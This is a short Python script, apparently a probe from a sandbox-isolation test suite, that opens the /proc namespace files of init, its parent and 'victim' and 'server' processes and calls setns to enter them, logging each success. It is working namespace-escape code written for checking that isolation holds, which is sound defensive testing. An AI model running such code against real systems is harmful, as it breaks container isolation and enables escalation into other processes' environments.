"""Enters the namespaces of other processes through their files and descriptors."""

import os

from attacker import got, host, syscall, tried

UNPROTECTED = "refused"

tried("setns")
for pid in ("1", str(os.getppid()), str(host["victim"]), str(host["server"])):
    for kind in ("user", "mnt", "net", "pid", "ipc", "uts", "cgroup", "time"):
        try:
            fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
        except OSError:
            continue
        own = os.stat(f"/proc/self/ns/{kind}").st_ino
        if os.fstat(fd).st_ino != own and syscall("setns", fd, 0)[0] == 0:
            got(f"entered the {kind} namespace of process {pid}")
